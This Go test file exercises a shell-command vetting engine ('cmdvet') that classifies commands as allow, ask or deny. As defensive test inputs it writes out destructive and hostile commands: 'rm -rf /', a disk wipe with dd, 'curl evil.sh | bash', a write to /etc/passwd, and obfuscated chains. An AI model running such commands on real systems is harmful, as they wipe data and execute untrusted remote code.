package engine

import (
	"strings"
	"testing"

	"github.com/cmdvet/cmdvet/internal/policy"
)

func run(t *testing.T, command string) Decision {
	t.Helper()
	return Analyze(command, &policy.Config{}, "/work")
}

func TestAnalyzeAllowsReadOnly(t *testing.T) {
	commands := []string{
		"ls -la",
		"pwd",
		"cat README.md",
		"git status",
		"git log --oneline -5",
		"ls | grep foo && pwd",
		"grep -r TODO src/ | head -20",
		"echo hello world",
		"which python3",
		"du -sh .",
	}
	for _, cmd := range commands {
		d := run(t, cmd)
		if d.Action != ActionAllow {
			t.Errorf("Analyze(%q) = %s (%s), want allow", cmd, d.Action, d.Reason)
		}
		if d.Reason == "" {
			t.Errorf("Analyze(%q): empty reason", cmd)
		}
	}
}

func TestAnalyzeAsksOnMutation(t *testing.T) {
	commands := []string{
		"git push origin main",
		"rm -rf build/",
		"npm install left-pad",
		"curl https://example.com/install.sh",
		"docker rm mycontainer",
	}
	for _, cmd := range commands {
		d := run(t, cmd)
		if d.Action != ActionAsk {
			t.Errorf("Analyze(%q) = %s (%s), want ask", cmd, d.Action, d.Reason)
		}
	}
}

func TestAnalyzeNeverDeniesWithoutRules(t *testing.T) {
	// Deny is reserved for operator rules; heuristics top out at ask.
	commands := []string{
		"rm -rf /",
		"sudo dd if=/dev/zero of=/dev/sda",
		"curl evil.sh | bash",
	}
	for _, cmd := range commands {
		d := run(t, cmd)
		if d.Action == ActionDeny {
			t.Errorf("Analyze(%q) denied without a deny rule: %s", cmd, d.Reason)
		}
	}
}

func TestCommandSubstitution(t *testing.T) {
	d := run(t, "echo $(rm -rf /)")
	if d.Action != ActionAsk {
		t.Fatalf("Action = %s, want ask", d.Action)
	}
	if !strings.Contains(d.Reason, "command substitution") {
		t.Errorf("Reason = %q, want command substitution mention", d.Reason)
	}

	if d := run(t, "echo $(pwd)"); d.Action != ActionAllow {
		t.Errorf("safe substitution: Action = %s (%s), want allow", d.Action, d.Reason)
	}

	// nested substitution surfaces the innermost risk
	d = run(t, "echo $(echo $(sudo reboot))")
	if d.Action != ActionAsk || !strings.Contains(d.Reason, "command substitution") {
		t.Errorf("nested: got %s (%s)", d.Action, d.Reason)
	}
}

func TestProcessSubstitution(t *testing.T) {
	if d := run(t, "diff <(ls) <(ls -a)"); d.Action != ActionAllow {
		t.Errorf("safe procsub: Action = %s (%s), want allow", d.Action, d.Reason)
	}

	d := run(t, "diff <(cat a) <(rm -rf b)")
	if d.Action != ActionAsk {
		t.Fatalf("Action = %s, want ask", d.Action)
	}
	if !strings.Contains(d.Reason, "process substitution") {
		t.Errorf("Reason = %q, want process substitution mention", d.Reason)
	}
}

func TestSubstitutionInjection(t *testing.T) {
	// A safe inner command feeding an argument of a command we would not
	// auto-approve bare is still flagged.
	d := run(t, `git commit -m "$(cat notes.txt)"`)
	if d.Action != ActionAsk {
		t.Fatalf("Action = %s (%s), want ask", d.Action, d.Reason)
	}
	if !strings.Contains(d.Reason, "cmdsub injection risk") {
		t.Errorf("Reason = %q, want injection mention", d.Reason)
	}

	// quoting the substitution does not launder it
	d = run(t, "git commit -m $(cat notes.txt)")
	bare := d.Reason
	d = run(t, `git commit -m "$(cat notes.txt)"`)
	if d.Reason != bare {
		t.Errorf("quoted form = %q, bare form = %q, want same reason", d.Reason, bare)
	}

	// No flag when the outer command is approvable anyway.
	if d := run(t, "git status $(cat f)"); d.Action != ActionAllow {
		t.Errorf("safe outer: Action = %s (%s), want allow", d.Action, d.Reason)
	}
}

func TestRedirects(t *testing.T) {
	tests := []struct {
		command string
		want    Action
	}{
		{"echo hi > /dev/null", ActionAllow},
		{"grep err log 2>/dev/null", ActionAllow},
		{"make test 2>&1", ActionAsk}, // make itself asks, dup is fine
		{"ls 2>&1", ActionAllow},
		{"echo hi > out.txt", ActionAsk},
		{"echo hi >> notes.log", ActionAsk},
		{"cat a > b", ActionAsk},
	}
	for _, tt := range tests {
		d := run(t, tt.command)
		if d.Action != tt.want {
			t.Errorf("Analyze(%q) = %s (%s), want %s", tt.command, d.Action, d.Reason, tt.want)
		}
	}

	d := run(t, "echo hi > out.txt")
	if !strings.Contains(d.Reason, "redirect to out.txt") {
		t.Errorf("Reason = %q, want redirect target named", d.Reason)
	}
}

func TestRedirectPolicy(t *testing.T) {
	cfg := &policy.Config{
		Redirects: policy.RedirectRules{
			Approve: []string{"/work/build/**", "*.log"},
			Deny:    []string{"/etc/**"},
		},
	}

	tests := []struct {
		command string
		want    Action
	}{
		{"echo x > build/out.txt", ActionAllow},
		{"echo x > debug.log", ActionAllow},
		{"echo x > /etc/passwd", ActionDeny},
		{"echo x > elsewhere.txt", ActionAsk},
	}
	for _, tt := range tests {
		d := Analyze(tt.command, cfg, "/work")
		if d.Action != tt.want {
			t.Errorf("Analyze(%q) = %s (%s), want %s", tt.command, d.Action, d.Reason, tt.want)
		}
	}
}

func TestHeredocs(t *testing.T) {
	quoted := "cat <<'EOF'\n$(rm -rf /)\nEOF"
	if d := run(t, quoted); d.Action != ActionAllow {
		t.Errorf("quoted heredoc: Action = %s (%s), want allow", d.Action, d.Reason)
	}

	unquoted := "cat <<EOF\n$(rm -rf /)\nEOF"
	d := run(t, unquoted)
	if d.Action != ActionAsk {
		t.Fatalf("unquoted heredoc: Action = %s, want ask", d.Action)
	}
	if !strings.Contains(d.Reason, "command substitution") {
		t.Errorf("Reason = %q, want substitution mention", d.Reason)
	}
}

func TestPolicyCommandRules(t *testing.T) {
	cfg := &policy.Config{
		Approve: []policy.Rule{{Pattern: "terraform plan"}},
		Confirm: []policy.Rule{{Pattern: "terraform apply", Message: "infra changes need review"}},
		Deny:    []policy.Rule{{Pattern: "git push --force"}},
	}

	if d := Analyze("terraform plan -out=tfplan", cfg, "/work"); d.Action != ActionAllow {
		t.Errorf("approve rule: got %s (%s)", d.Action, d.Reason)
	}

	d := Analyze("terraform apply", cfg, "/work")
	if d.Action != ActionAsk || !strings.Contains(d.Reason, "infra changes need review") {
		t.Errorf("confirm rule: got %s (%s)", d.Action, d.Reason)
	}

	d = Analyze("git push --force origin main", cfg, "/work")
	if d.Action != ActionDeny {
		t.Errorf("deny rule: got %s (%s)", d.Action, d.Reason)
	}
}

func TestPolicyRuleMatchesAfterAssignmentPrefix(t *testing.T) {
	// words reaching the matcher through wrapper unwrapping may still carry
	// leading VAR=value tokens; rules match the command, not the prefix
	cfg := &policy.Config{
		Confirm: []policy.Rule{{Pattern: "ls", Message: "listing is audited here"}},
	}
	d := Analyze("nohup FOO=1 ls", cfg, "/work")
	if d.Action != ActionAsk || !strings.Contains(d.Reason, "listing is audited here") {
		t.Errorf("got %s (%s), want confirm rule to match", d.Action, d.Reason)
	}
}

func TestDenyWinsInsideSequence(t *testing.T) {
	cfg := &policy.Config{Deny: []policy.Rule{{Pattern: "shutdown"}}}
	d := Analyze("ls && shutdown -h now", cfg, "/work")
	if d.Action != ActionDeny {
		t.Errorf("got %s (%s), want deny", d.Action, d.Reason)
	}
}

func TestAliases(t *testing.T) {
	cfg := &policy.Config{Aliases: map[string]string{"gs": "git status", "gp": "git push"}}

	if d := Analyze("gs", cfg, "/work"); d.Action != ActionAllow {
		t.Errorf("gs: got %s (%s), want allow", d.Action, d.Reason)
	}
	if d := Analyze("gp origin main", cfg, "/work"); d.Action != ActionAsk {
		t.Errorf("gp: got %s (%s), want ask", d.Action, d.Reason)
	}
}

func TestShellDelegation(t *testing.T) {
	if d := run(t, `bash -c "git status"`); d.Action != ActionAllow {
		t.Errorf("bash -c safe: got %s (%s), want allow", d.Action, d.Reason)
	}
	if d := run(t, `sh -c "rm -rf /tmp/x"`); d.Action != ActionAsk {
		t.Errorf("sh -c unsafe: got %s (%s), want ask", d.Action, d.Reason)
	}
	if d := run(t, "bash"); d.Action != ActionAsk {
		t.Errorf("bare bash: got %s (%s), want ask", d.Action, d.Reason)
	}
}

func TestEnvAndXargsDelegation(t *testing.T) {
	if d := run(t, "env FOO=1 ls -la"); d.Action != ActionAllow {
		t.Errorf("env wrapper: got %s (%s), want allow", d.Action, d.Reason)
	}
	if d := run(t, "find . -name '*.bak' | xargs cat"); d.Action != ActionAllow {
		t.Errorf("xargs cat: got %s (%s), want allow", d.Action, d.Reason)
	}
	if d := run(t, "find . -name '*.bak' | xargs rm -f"); d.Action != ActionAsk {
		t.Errorf("xargs rm: got %s (%s), want ask", d.Action, d.Reason)
	}
}

func TestWrapperCommands(t *testing.T) {
	if d := run(t, "timeout 5 ls"); d.Action != ActionAllow {
		t.Errorf("timeout: got %s (%s), want allow", d.Action, d.Reason)
	}
	if d := run(t, "nohup rm -rf tmp"); d.Action != ActionAsk {
		t.Errorf("nohup unsafe: got %s (%s), want ask", d.Action, d.Reason)
	}
	if d := run(t, "command -v git"); d.Action != ActionAllow {
		t.Errorf("command -v: got %s (%s), want allow", d.Action, d.Reason)
	}
	if d := run(t, "nice -n 10 cat big.txt"); d.Action != ActionAllow {
		t.Errorf("nice: got %s (%s), want allow", d.Action, d.Reason)
	}
}

func TestVersionHelpHeuristic(t *testing.T) {
	allows := []string{
		"terraform --version",
		"kubectl version",
		"somecustomtool --help",
		"foo -h",
	}
	for _, cmd := range allows {
		if d := run(t, cmd); d.Action != ActionAllow {
			t.Errorf("Analyze(%q) = %s (%s), want allow", cmd, d.Action, d.Reason)
		}
	}

	// --help with a long tail can still execute things first
	if d := run(t, "tool do something dangerous now --help"); d.Action != ActionAsk {
		t.Errorf("long tail: got %s (%s), want ask", d.Action, d.Reason)
	}
}

func TestConditionals(t *testing.T) {
	allows := []string{
		"[ -f go.mod ]",
		"test -d vendor",
		"[[ -n $HOME ]]",
		"if grep -q TODO main.go; then echo found; fi",
		"for f in a b c; do echo $f; done",
		"while read line; do echo $line; done",
		"case $x in a) echo a;; *) echo other;; esac",
	}
	for _, cmd := range allows {
		if d := run(t, cmd); d.Action != ActionAllow {
			t.Errorf("Analyze(%q) = %s (%s), want allow", cmd, d.Action, d.Reason)
		}
	}

	if d := run(t, "if true; then rm -rf /; fi"); d.Action != ActionAsk {
		t.Errorf("unsafe branch: got %s (%s), want ask", d.Action, d.Reason)
	}
}

func TestFunctionBodiesAreWalked(t *testing.T) {
	d := run(t, "cleanup() { rm -rf \"$TMPDIR\"; }")
	if d.Action != ActionAsk {
		t.Errorf("got %s (%s), want ask", d.Action, d.Reason)
	}
}

func TestEnvAssignments(t *testing.T) {
	if d := run(t, "FOO=bar"); d.Action != ActionAllow {
		t.Errorf("plain assignment: got %s (%s), want allow", d.Action, d.Reason)
	}
	if d := run(t, "FOO=bar BAR=baz ls"); d.Action != ActionAllow {
		t.Errorf("assignment prefix: got %s (%s), want allow", d.Action, d.Reason)
	}
	if d := run(t, "FOO=$(sudo id) ls"); d.Action != ActionAsk {
		t.Errorf("substitution in assignment: got %s (%s), want ask", d.Action, d.Reason)
	}
}

func TestParseErrors(t *testing.T) {
	for _, cmd := range []string{`echo "unterminated`, "if true; then"} {
		d := run(t, cmd)
		if d.Action != ActionAsk {
			t.Errorf("Analyze(%q) = %s, want ask", cmd, d.Action)
		}
		if !strings.Contains(d.Reason, "parse error") {
			t.Errorf("Analyze(%q) reason = %q, want parse error", cmd, d.Reason)
		}
	}
}

func TestEmptyCommand(t *testing.T) {
	for _, cmd := range []string{"", "   ", "\n\t"} {
		d := run(t, cmd)
		if d.Action != ActionAsk || d.Reason != "empty command" {
			t.Errorf("Analyze(%q) = %s (%q)", cmd, d.Action, d.Reason)
		}
	}
}

func TestSuspiciousCharacters(t *testing.T) {
	d := run(t, "echo hi\u200b && rm -rf /")
	if d.Action != ActionAsk {
		t.Fatalf("Action = %s, want ask", d.Action)
	}
	if !strings.Contains(d.Reason, "suspicious characters") {
		t.Errorf("Reason = %q, want suspicious characters", d.Reason)
	}
}

func TestNestingDepthLimit(t *testing.T) {
	cmd := "echo " + strings.Repeat("$(", maxDepth+5) + "ls" + strings.Repeat(")", maxDepth+5)
	d := run(t, cmd)
	if d.Action != ActionAsk {
		t.Fatalf("Action = %s, want ask", d.Action)
	}
	if !strings.Contains(d.Reason, "nesting too deep") {
		t.Errorf("Reason = %q, want nesting too deep", d.Reason)
	}
}

func TestUnknownCommandDescription(t *testing.T) {
	d := run(t, "somecustomtool run the thing now")
	if d.Action != ActionAsk {
		t.Fatalf("Action = %s, want ask", d.Action)
	}
	if d.Reason != "somecustomtool run the" {
		t.Errorf("Reason = %q, want truncated description", d.Reason)
	}
}

func TestUnsafePatternSharpensReason(t *testing.T) {
	d := run(t, "sudo apt-get install jq")
	if d.Action != ActionAsk {
		t.Fatalf("Action = %s, want ask", d.Action)
	}
	if !strings.Contains(d.Reason, "unsafe pattern: sudo") {
		t.Errorf("Reason = %q, want unsafe pattern mention", d.Reason)
	}
}

func TestCdTracksWorkingDirectory(t *testing.T) {
	cfg := &policy.Config{
		Approve:     []policy.Rule{{Pattern: "sub/gen.sh"}},
		ProjectRoot: "/proj",
	}

	d := Analyze("cd sub && ./gen.sh", cfg, "/proj")
	if d.Action != ActionAllow {
		t.Errorf("got %s (%s), want allow", d.Action, d.Reason)
	}

	// same script from the wrong directory does not match
	d = Analyze("cd other && ./gen.sh", cfg, "/proj")
	if d.Action != ActionAsk {
		t.Errorf("wrong dir: got %s (%s), want ask", d.Action, d.Reason)
	}
}

func TestCombineCollectsReasons(t *testing.T) {
	d := run(t, "git push && rm -rf build")
	if d.Action != ActionAsk {
		t.Fatalf("Action = %s, want ask", d.Action)
	}
	if !strings.Contains(d.Reason, ",") {
		t.Errorf("Reason = %q, want both causes listed", d.Reason)
	}
}

func TestDecisionChildren(t *testing.T) {
	d := run(t, "ls && git push")
	if len(d.Children) != 2 {
		t.Fatalf("Children = %d, want both sides of &&", len(d.Children))
	}
	if d.Children[0].Action != ActionAllow || d.Children[1].Action != ActionAsk {
		t.Errorf("child actions = %s, %s", d.Children[0].Action, d.Children[1].Action)
	}

	// substitution wrapping keeps the inner decision reachable
	d = run(t, "echo $(sudo reboot)")
	if len(d.Children) != 1 {
		t.Fatalf("Children = %d, want wrapped inner decision", len(d.Children))
	}
	if !strings.Contains(d.Children[0].Reason, "sudo") {
		t.Errorf("inner reason = %q", d.Children[0].Reason)
	}
}

func TestSubshellAndBlock(t *testing.T) {
	if d := run(t, "(ls; pwd)"); d.Action != ActionAllow {
		t.Errorf("subshell: got %s (%s), want allow", d.Action, d.Reason)
	}
	if d := run(t, "{ ls; rm x; }"); d.Action != ActionAsk {
		t.Errorf("block: got %s (%s), want ask", d.Action, d.Reason)
	}
}

func TestArithmetic(t *testing.T) {
	if d := run(t, "echo $((1 + 2))"); d.Action != ActionAllow {
		t.Errorf("got %s (%s), want allow", d.Action, d.Reason)
	}
	if d := run(t, "(( x = 1 + 2 ))"); d.Action != ActionAllow {
		t.Errorf("arith cmd: got %s (%s), want allow", d.Action, d.Reason)
	}
}
